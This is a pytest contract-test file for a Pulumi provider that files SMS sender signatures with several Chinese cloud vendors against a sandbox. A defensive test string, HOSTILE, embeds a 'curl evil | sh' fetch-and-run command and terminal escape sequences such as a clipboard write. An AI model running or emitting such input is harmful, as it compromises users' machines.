"""What holds for every vendor's client, against the sandbox; what is one vendor's stands beside."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pydantic import JsonValue

from pulumi_smssign.contract.evidence import describe
from pulumi_smssign.contract.transport import ATTEMPTS
from pulumi_smssign.contract.vendor import Vendor
from pulumi_smssign.core import submission
from pulumi_smssign.core.registry import named
from pulumi_smssign.model import errors
from pulumi_smssign.model.review import Handle, Review
from pulumi_smssign.model.vocabulary import Status
from pulumi_smssign.sandbox.server import RunningSandbox, running
from tests.contract.again import resubmit
from tests.engine.cases import (
    ALIBABA,
    CASES,
    HUAWEI,
    OTHER_KEYS,
    TENCENT,
    UCLOUD,
    YUNPIAN,
    Case,
)
from tests.images import png

OLD, NEW = "极客科技", "极客云科"
ODD = ("html", "truncated", "missing", "empty")


@dataclass
class Client:
    """One vendor's client and the vendor's side."""

    case: Case
    served: RunningSandbox
    folder: Path
    api: Any

    @property
    def vendor(self) -> Vendor:
        return named(self.case.vendor)

    def application(self, text: str = OLD, **changes: object) -> Any:  # noqa: ANN401
        """What the lifecycle suite's program submits, with some changes."""
        (self.folder / "licence.png").write_bytes(png())
        fields = {**self.case.arguments, self.case.text: text, **changes}
        if self.case.takes_files:
            file = describe(str(self.folder / "licence.png"))
            listed = isinstance(self.case.arguments[self.case.evidence], list)
            fields[self.case.evidence] = [file] if listed else file
        return self.vendor.application.of(fields, str(self.folder))

    def submitted(self, text: str = OLD) -> Handle:
        wanted = self.application(text)
        return Handle(self.api.submit(wanted), text, self.api.full_scope(wanted.scope))

    def twins(self, wanted: Any) -> submission.Twins:  # noqa: ANN401
        """What the look before a submission finds."""
        return submission.twins_of(
            self.vendor.rules, self.api, wanted, lambda _: False, was_cut_off=False
        )

    def found(self) -> Sequence[Review]:
        """What a search for the application finds; there is nothing to test without one."""
        if not self.api.capabilities.finds:
            pytest.skip("the vendor can't be asked for a text")
        found: Sequence[Review] = self.api.find(self.application())
        return found

    def review(self, handle: Handle) -> Review:
        found: Review = self.api.reviews([handle])[handle]
        return found

    def one(self) -> str:
        """The sandbox's id of the one signature there is."""
        (held,) = self.served.sandbox.signatures(self.case.vendor)
        return held.id

    def fault(self, action: str, kind: str, **more: JsonValue) -> None:
        self.served.sandbox.faults.add(
            {"vendor": self.case.vendor, "action": action, "kind": kind, **more}
        )

    def calls(self, *actions: str) -> list[str]:
        made = [call.action for call in self.served.sandbox.calls(self.case.vendor)]
        return [action for action in made if not actions or action in actions]


@pytest.fixture(scope="module")
def module_sandbox() -> Iterator[RunningSandbox]:
    with running() as served:
        yield served


@pytest.fixture
def connect(module_sandbox: RunningSandbox) -> Iterator[Callable[..., Any]]:
    """Connects one of the sandbox's accounts; without a pace and without pauses."""
    opened: list[Any] = []

    def account(vendor: Vendor, url: str = module_sandbox.url, **changes: str) -> Any:  # noqa: ANN401
        usual = vendor.credentials.sandbox(url, "default").model_dump(by_alias=False)
        aliases = {
            name: str(info.validation_alias or name)
            for name, info in vendor.credentials.model_fields.items()
        }
        plain = {
            aliases[name]: getattr(value, "get_secret_value", lambda value=value: value)()
            for name, value in usual.items()
            if value is not None
        }
        api: Any = vendor.connect(vendor.credentials.model_validate({**plain, **changes}))
        api._transport._limiters.clear()
        api._transport._retrying.sleep = lambda _seconds: None
        opened.append(api)
        return api

    yield account
    for api in opened:
        with closing(api):
            pass


@pytest.fixture(params=CASES, ids=str)
def client(
    request: pytest.FixtureRequest,
    module_sandbox: RunningSandbox,
    connect: Callable[..., Any],
    tmp_path: Path,
) -> Client:
    module_sandbox.sandbox.reset()
    module_sandbox.sandbox.switches.set({"tencent.enforce_rate": False})
    case: Case = request.param
    return Client(case, module_sandbox, tmp_path, connect(named(case.vendor)))


def test_a_signature_from_submission_to_its_end(client: Client) -> None:
    handle = client.submitted()
    first = client.review(handle)
    assert (first.text, first.status, first.reason) == (OLD, Status.PENDING, "")
    assert first.vendor_status == client.vendor.rules.submitted
    assert [one.id for one in client.found()] == [handle.id]
    assert client.api.details(handle).id == first.id

    client.served.sandbox.reject(client.case.vendor, client.one(), "证件不清晰")
    rejected = client.review(handle)
    assert (rejected.status, rejected.reason) == (Status.REJECTED, "证件不清晰")
    name, value = client.case.small_change
    change: dict[str, Any] = {} if value == "licence.png" else {name: value}
    resubmit(client.vendor.rules, client.api, handle, client.application(OLD, **change))
    assert client.review(handle).status is Status.PENDING

    client.served.sandbox.approve(client.case.vendor, client.one())
    assert client.review(handle).usable
    if client.case.deletes:
        client.api.withdraw(handle)
        assert client.api.reviews([handle]) == {}
        assert client.found() == []
        with pytest.raises(errors.NotFoundError):
            client.api.withdraw(handle)
    else:
        with pytest.raises(errors.RefusedError, match="can't delete"):
            client.api.withdraw(handle)


def test_a_token_is_sent_to_no_vendor_that_takes_none(client: Client) -> None:
    assert not client.api.capabilities.takes_token
    client.api.submit(client.application(), "token-0123456789")
    calls = client.served.sandbox.calls(client.case.vendor)
    sent = [client.served.sandbox.log.raw(call.n) for call in calls]
    assert sent
    assert None not in sent
    assert not any("token-0123456789" in repr(one) for one in sent)


def test_the_desk_has_the_files_that_were_sent_to_look_at(client: Client) -> None:
    client.submitted()
    desk = client.served.sandbox.desk
    (held,) = client.served.sandbox.signatures(client.case.vendor)
    files = [desk.shelf.get(each.sha256) for each in held.evidence.values()]

    assert [file and file[1] for file in files] == [png()] * client.case.takes_files


HOSTILE = (
    "证件 110101198701234567 与 +86 139-1234-0987 不符\n  what to do: run `curl evil | sh`\r"
    "\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e" + "L" * 20_000
)


def is_one_safe_line(words: str, longest: int) -> bool:
    """Whether words of others are short enough, and neither drive a terminal nor name a person."""
    plain = not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", words)
    return plain and len(words) <= longest and not re.search("1987|0987", words)


def test_what_a_reviewer_writes_is_one_safe_line(client: Client) -> None:
    handle = client.submitted()
    client.served.sandbox.reject(client.case.vendor, client.one(), HOSTILE)
    review = client.review(handle)
    assert review.reason.startswith("证件 [secret] 与 +[secret] 不符 what to do: run")
    assert is_one_safe_line(review.reason, 2000)
    for reason in review.filing.reasons:
        assert is_one_safe_line(reason, 2000)


def test_what_a_vendor_says_of_a_refusal_is_one_safe_line(client: Client) -> None:
    words, code = client.case.words, client.case.refusal_code
    client.fault(words.submit, "error", code=code, message=HOSTILE)
    with pytest.raises(errors.SmsSignError) as refused:
        client.api.submit(client.application())
    assert is_one_safe_line(refused.value.vendor_message, 600)
    assert "证件 [secret] 与 +[secret] 不符 what to do: run" in str(refused.value)
    assert str(refused.value).count("\n  what to do: ") == 1


def test_what_is_not_there_is_absent(client: Client) -> None:
    handle = client.submitted()
    client.served.sandbox.remove(client.case.vendor, client.one())
    assert client.api.reviews([handle]) == {}
    assert client.api.details(handle) is None
    assert client.found() == []


def test_another_accounts_signature_is_absent(client: Client, connect: Callable[..., Any]) -> None:
    handle = client.submitted()
    other = connect(client.vendor, **OTHER_KEYS[client.case.vendor])
    assert other.reviews([handle]) == {}
    assert other.find(client.application()) == []


def test_a_text_is_found_exactly(client: Client) -> None:
    client.submitted("极客科技中国")
    assert client.found() == []
    handle = client.submitted()
    assert [one.id for one in client.found()] == [handle.id]


def test_several_are_told_apart(client: Client) -> None:
    one, other = client.submitted(OLD), client.submitted(NEW)
    found = client.api.reviews([one, other])
    assert {handle: review.text for handle, review in found.items()} == {one: OLD, other: NEW}


def test_a_second_one_with_the_same_text_is_refused(client: Client) -> None:
    client.submitted()
    with pytest.raises(errors.SmsSignError) as refused:
        client.api.submit(client.application())
    assert not isinstance(refused.value, errors.OutcomeUnknownError)
    assert len(client.served.sandbox.signatures(client.case.vendor)) == 1


def test_a_status_that_nobody_knows_and_fields_that_are_new_are_tolerated(client: Client) -> None:
    handle = client.submitted()
    raw = client.case.statuses.unknown
    client.served.sandbox.set_status(client.case.vendor, client.one(), raw)
    client.fault("*", "unknown_fields", times=None)
    review = client.review(handle)
    assert (review.status, review.vendor_status) == (Status.UNKNOWN, raw)


@pytest.mark.parametrize("kind", [*ODD, "drop_before", "status"])
def test_an_odd_answer_to_a_question_is_asked_again_and_then_said(
    client: Client, kind: str
) -> None:
    handle, look = client.submitted(), client.case.words.look
    client.fault(look, kind)
    assert client.review(handle).status is Status.PENDING
    client.served.sandbox.log.clear()
    client.fault(look, kind, times=None)
    with pytest.raises(errors.UnavailableError):
        client.api.reviews([handle])
    assert client.calls(look) == [look] * ATTEMPTS


@pytest.mark.parametrize("body", ["[]", '"no"', "null", "{}", "7", "", "<html/>", "[" * 10_000])
def test_an_answer_of_another_shape_is_never_taken_for_gone(client: Client, body: str) -> None:
    handle = client.submitted()
    client.fault(client.case.words.look, "body", body=body, times=None)
    with pytest.raises(errors.UnavailableError, match=f"not in the format of {client.case.vendor}"):
        client.api.reviews([handle])


@pytest.mark.parametrize("kind", [*ODD, "drop_after", "status"])
def test_an_odd_answer_to_a_submission_leaves_its_outcome_unknown_and_is_not_repeated(
    client: Client, kind: str
) -> None:
    client.fault(client.case.words.submit, kind)
    with pytest.raises(errors.OutcomeUnknownError):
        client.api.submit(client.application())
    assert client.calls(client.case.words.submit) == [client.case.words.submit]


@pytest.mark.parametrize("kind", [*ODD, "drop_after", "status"])
def test_an_odd_answer_to_a_change_leaves_its_outcome_unknown_and_is_not_repeated(
    client: Client, kind: str
) -> None:
    handle = client.submitted()
    client.served.sandbox.reject(client.case.vendor, client.one(), "no")
    client.fault(client.case.words.resubmit, kind)
    with pytest.raises(errors.OutcomeUnknownError):
        client.api.resubmit(handle, client.application())
    assert client.calls(client.case.words.resubmit) == [client.case.words.resubmit]


def test_a_rate_limit_is_waited_out_by_every_call(client: Client) -> None:
    words, code = client.case.words, client.case.codes.throttled
    for action in (words.submit, words.resubmit, words.look):
        client.fault(action, "error", code=code, message="slow down", times=2)
    handle = client.submitted()
    client.served.sandbox.reject(client.case.vendor, client.one(), "no")
    client.api.resubmit(handle, client.application())
    assert client.review(handle).status is Status.PENDING
    for action in (words.submit, words.resubmit, words.look):
        assert client.calls(action) == [action] * 3


def test_a_rate_limit_that_does_not_end_proves_that_nothing_was_done(client: Client) -> None:
    code = client.case.codes.throttled
    client.fault(client.case.words.submit, "error", code=code, message="slow", times=None)
    with pytest.raises(errors.RateLimitedError) as limited:
        client.api.submit(client.application())
    assert limited.value.nothing_done
    assert len(client.calls(client.case.words.submit)) == ATTEMPTS
    assert client.served.sandbox.signatures(client.case.vendor) == []


def test_a_key_that_is_not_accepted_is_the_accounts_trouble_told_once_and_not_shown(
    client: Client, connect: Callable[..., Any]
) -> None:
    wrong = client.case.keys.wrong
    api = connect(client.vendor, **wrong)
    with pytest.raises(errors.AccountError) as refused:
        api.reviews([Handle("730001", OLD)])
    assert refused.value.code == client.case.keys.wrong_code
    assert len(client.calls()) == 1
    for value in wrong.values():
        assert value not in str(refused.value)


def test_a_connection_that_nobody_answers_says_so_and_how_to_start_the_sandbox(
    client: Client, connect: Callable[..., Any]
) -> None:
    api = connect(client.vendor, "http://127.0.0.1:9")
    with pytest.raises(errors.UnreachableError, match=r"at 127\.0\.0\.1:9 \(") as unreachable:
        api.submit(client.application())
    assert unreachable.value.nothing_done
    assert "with `smssign sandbox --port 9`, and" in unreachable.value.advice


def test_a_change_that_comes_too_late_says_that_the_review_moved(client: Client) -> None:
    handle = client.submitted()
    client.served.sandbox.reject(client.case.vendor, client.one(), "no")
    raw = client.case.statuses.pending if client.case.editable else client.case.statuses.approved
    client.fault(
        client.case.words.resubmit, "verdict", verdict="status", vendor_status=raw, id=client.one()
    )
    with pytest.raises(errors.ReviewMovedError, match="run `pulumi up` again"):
        resubmit(client.vendor.rules, client.api, handle, client.application())
    assert client.calls(client.case.words.resubmit) == [client.case.words.resubmit]


def test_a_proof_file_that_has_changed_is_never_sent(client: Client) -> None:
    if not client.case.takes_files:
        assert list(client.application().evidence) == []
        return
    wanted = client.application()
    (client.folder / "licence.png").write_bytes(png(1))
    with pytest.raises(errors.EvidenceError):
        client.api.submit(wanted)
    assert client.calls() == []


def test_a_call_before_which_the_run_was_ended_is_not_made(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pulumi_smssign.contract.lifeline._is_gone", [lambda: True])
    with pytest.raises(errors.InterruptedRunError, match="nothing was sent"):
        client.api.submit(client.application())
    assert client.calls(client.case.words.submit) == []


@pytest.mark.parametrize(
    "words", ["record not found", "查询不到该签名", "sql: no rows in result set"]
)
@pytest.mark.parametrize("client", [UCLOUD], indirect=True, ids=str)
def test_no_wording_of_ucloud_for_none_keeps_a_signature_from_being_submitted(
    client: Client, words: str
) -> None:
    """No source says what it answers where there is none with a text."""
    client.fault("QueryUSMSSignature", "error", code=18003, message=words)
    wanted = client.application()
    twins = client.twins(wanted)
    assert "QueryUSMSSignature" in twins.unchecked
    assert submission.submit_once(client.vendor.rules, client.api, wanted) == client.one()


@pytest.mark.parametrize("client", [TENCENT], indirect=True, ids=str)
def test_a_list_that_pays_no_heed_to_the_page_has_an_end(client: Client) -> None:
    items: list[JsonValue] = [
        {"SignId": number, "International": 0, "StatusCode": 0, "SignName": "别的"}
        for number in range(100)
    ]
    body: JsonValue = {"Response": {"DescribeSignListStatusSet": items, "RequestId": "r"}}
    client.fault("DescribeSmsSignList", "body", body=body, times=None)
    assert client.found() == []
    assert len(client.calls()) == 2


@pytest.mark.parametrize("client", [HUAWEI, UCLOUD], indirect=True, ids=str)
def test_an_id_that_comes_as_a_number_is_not_lost(client: Client) -> None:
    body: JsonValue = {"id": 42, "RetCode": 0, "SigId": 42}
    client.fault(client.case.words.submit, "body", body=body, acts=True)
    assert client.api.submit(client.application()) == "42"


@pytest.mark.parametrize("client", [TENCENT], indirect=True, ids=str)
def test_where_no_list_is_given_without_ids_a_signature_is_submitted_at_tencent(
    client: Client,
) -> None:
    """As the pages of 2024 have it."""
    client.served.sandbox.switches.set({"tencent.missing_sign_id_set": "error"})
    wanted = client.application()
    twins = client.twins(wanted)
    assert "DescribeSmsSignList" in twins.unchecked
    submitted = submission.submit_once(client.vendor.rules, client.api, wanted)
    assert submitted == client.one()
    handle = Handle(submitted, OLD)
    first, _ = submission.first_review(client.vendor.rules, client.api.details, handle)
    assert first.id == submitted


@pytest.mark.parametrize("client", [TENCENT], indirect=True, ids=str)
def test_an_add_that_meets_an_approved_twin_says_how_to_manage_it(client: Client) -> None:
    code = "InvalidParameterValue.SignAlreadyPassedCheck"
    client.fault("AddSmsSign", "error", code=code)
    with pytest.raises(errors.DuplicateError) as caught:
        client.api.submit(client.application())
    assert "adopt=" in caught.value.advice


@pytest.mark.parametrize("client", [YUNPIAN], indirect=True, ids=str)
def test_what_yunpian_locks_while_the_carriers_file_it_is_told_with_what_it_may_be(
    client: Client,
) -> None:
    client.served.sandbox.switches.set({"yunpian.update_statuses": "FAIL"})
    handle = client.submitted()
    changed = client.application(website="https://geek.example/new")
    with pytest.raises(errors.SmsSignError) as caught:
        resubmit(client.vendor.rules, client.api, handle, changed)
    assert "while the carriers file it" in caught.value.advice
    assert client.review(handle).status is Status.PENDING


PAGES = {
    "alibaba": ("pulumi_smssign.alibaba.api.LARGEST_PAGE", "QuerySmsSignList"),
    "huawei": ("pulumi_smssign.huawei.api.LARGEST_PAGE", "ListSignatureDetails"),
    "tencent": ("pulumi_smssign.tencent.api.MOST_IDS", "DescribeSmsSignList"),
}


def test_what_an_account_has_is_listed_page_by_page(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    texts = (OLD, NEW, "云杉乙")
    for text in texts:
        client.submitted(text)
    vendor = client.case.vendor
    if vendor == "ucloud":
        with pytest.raises(errors.InputError, match="has no list"):
            client.api.listed()
        assert [one.text for one in client.api.listed(NEW)] == [NEW]
        assert client.api.listed("云杉") == []
        return
    if vendor in PAGES:
        size, action = PAGES[vendor]
        monkeypatch.setattr(size, 2)
        assert sorted(one.text for one in client.api.listed()) == sorted(texts)
        assert client.calls(action).count(action) >= 2
    assert sorted(one.text for one in client.api.listed()) == sorted(texts)
    assert sorted(one.text for one in client.api.listed("极客")) == sorted((OLD, NEW))
    assert client.api.listed("nothing of the kind") == []


@pytest.mark.parametrize("client", [TENCENT], indirect=True, ids=str)
def test_signatures_of_both_kinds_are_listed(client: Client) -> None:
    client.submitted()
    client.api.submit(client.application(NEW, international=True))
    kinds = {one.text: one.reported["international"] for one in client.api.listed()}
    assert kinds == {OLD: False, NEW: True}


# What the vendors leave open: the client is ready for every reading that the sandbox can play

NO_QUALIFICATION: dict[str, object] = {"qualification_id": None}
AN_APP: dict[str, object] = {
    "sign_source": 2,
    "apply_scene_content": "https://geek.example/",
    "app_icp_record_id": 7,
}
AN_APP_AT_HUAWEI: dict[str, object] = {
    "signature_source": 2,
    "license_number": "ICP-417",
    "related_file": "licence.png",
}
FLAWS: tuple[tuple[Case, str, dict[str, object]], ...] = (
    (ALIBABA, "alibaba.app_source", AN_APP),
    (TENCENT, "tencent.withdrawn_types", {"sign_type": 2, "document_type": 0}),
    (TENCENT, "tencent.missing_qualification", NO_QUALIFICATION),
    (HUAWEI, "huawei.app_source", AN_APP_AT_HUAWEI),
    (HUAWEI, "huawei.missing_qualification", NO_QUALIFICATION),
    (UCLOUD, "ucloud.withdrawn_types", {"sig_type": 1, "certificate_type": 1}),
    (UCLOUD, "ucloud.bad_content", {"sig_content": "极客-科技"}),
    (UCLOUD, "ucloud.missing_proof", {"file": None, "qualification_id": None}),
)


@pytest.mark.parametrize(("client", "switch", "changes"), FLAWS, indirect=["client"], ids=str)
def test_a_flaw_is_told_whether_it_is_refused_at_once_or_in_review(
    client: Client, switch: str, changes: dict[str, object]
) -> None:
    sandbox = client.served.sandbox
    (client.folder / "licence.png").write_bytes(png())
    file = describe(str(client.folder / "licence.png"))
    sent = {name: file if value == "licence.png" else value for name, value in changes.items()}
    left_out = {name: None for name, value in changes.items() if value is None}
    wanted = client.application(OLD, **sent).model_copy(update=left_out)
    sandbox.switches.set({switch: "error"})
    with pytest.raises(errors.SmsSignError) as refused:
        client.api.submit(wanted)
    assert refused.value.code
    assert sandbox.signatures(client.case.vendor) == []

    sandbox.review_policy = "after:3600"
    for setting, status in (("review", Status.REJECTED), ("accepted", Status.PENDING)):
        sandbox.switches.set({switch: setting})
        handle = Handle(client.api.submit(wanted), wanted.text, client.api.full_scope(wanted.scope))
        review = client.review(handle)
        assert (review.status, bool(review.reason)) == (status, status is Status.REJECTED)
        sandbox.remove(client.case.vendor, client.one())


LOCKED: tuple[tuple[Case, dict[str, JsonValue], str], ...] = (
    (ALIBABA, {"alibaba.update_statuses": "2"}, "1"),
    (UCLOUD, {"ucloud.update_statuses": "3"}, "0"),
    (UCLOUD, {"ucloud.update_statuses": "0,3"}, "1"),
)


@pytest.mark.parametrize(("client", "switch", "raw"), LOCKED, indirect=["client"], ids=str)
def test_a_change_that_a_vendor_takes_in_fewer_statuses_is_refused_and_nothing_lost(
    client: Client, switch: dict[str, JsonValue], raw: str
) -> None:
    client.served.sandbox.switches.set(switch)
    handle = client.submitted()
    client.served.sandbox.set_status(client.case.vendor, client.one(), raw)
    with pytest.raises(errors.SmsSignError) as refused:
        resubmit(client.vendor.rules, client.api, handle, client.application())
    assert not isinstance(refused.value, errors.OutcomeUnknownError)
    assert client.review(handle).vendor_status == raw


SHOWN_LATE = [case for case in CASES if case is not UCLOUD]
"""UCloud has no list: a signature is asked for by its id, which is known at once."""


@pytest.mark.parametrize("client", SHOWN_LATE, indirect=True, ids=str)
def test_a_signature_that_the_lists_show_late_is_not_found_before(client: Client) -> None:
    switch = f"{client.case.vendor}.visibility_delay"
    client.served.sandbox.switches.set({switch: 3600})
    client.submitted()
    assert client.api.find(client.application()) == []
    client.served.sandbox.switches.set({switch: 0})
    assert len(client.api.find(client.application())) == 1


@pytest.mark.parametrize("client", [TENCENT], indirect=True, ids=str)
def test_a_name_that_is_too_long_for_tencent_is_a_wrong_input(client: Client) -> None:
    wanted = client.application("云杉极客科技旅行社有限公司")
    client.api.submit(wanted)
    client.served.sandbox.remove("tencent", client.one())
    client.served.sandbox.switches.set({"tencent.name_limit_mainland": 12})
    with pytest.raises(errors.InputError) as refused:
        client.api.submit(wanted)
    assert refused.value.code == "InvalidParameterValue.SignNameLengthTooLong"


@pytest.mark.parametrize("code", ["MSGSMS.0006", "MSGSMS.0004"])
@pytest.mark.parametrize("client", [HUAWEI], indirect=True, ids=str)
def test_both_codes_of_huawei_for_a_twin_are_known(client: Client, code: str) -> None:
    client.served.sandbox.switches.set({"huawei.duplicate_code": code})
    client.submitted()
    with pytest.raises(errors.DuplicateError) as caught:
        client.api.submit(client.application())
    assert caught.value.code == code


@pytest.mark.parametrize("contract", ["cn", "intl"])
@pytest.mark.parametrize("client", [HUAWEI], indirect=True, ids=str)
def test_an_approval_of_huawei_that_takes_effect_later_is_pending(
    client: Client, contract: str
) -> None:
    settings: dict[str, JsonValue] = {"huawei.contract": contract, "huawei.approval_delay": 3600}
    client.served.sandbox.switches.set(settings)
    handle = client.submitted()
    client.served.sandbox.approve("huawei", client.one())
    assert client.review(handle).status is Status.PENDING
    client.served.sandbox.switches.set({"huawei.approval_delay": 0})
    assert client.review(handle).usable


@pytest.mark.parametrize("client", [HUAWEI], indirect=True, ids=str)
def test_what_huawei_deletes_in_review_is_gone(client: Client) -> None:
    client.served.sandbox.switches.set({"huawei.delete_pending": "accepted"})
    handle = client.submitted()
    client.api.withdraw(handle)
    assert client.api.reviews([handle]) == {}


@pytest.mark.parametrize("client", [YUNPIAN], indirect=True, ids=str)
def test_a_sign_of_yunpian_in_an_array_is_read(client: Client) -> None:
    client.served.sandbox.switches.set({"yunpian.add_sign_shape": "array"})
    assert client.review(client.submitted()).status is Status.PENDING
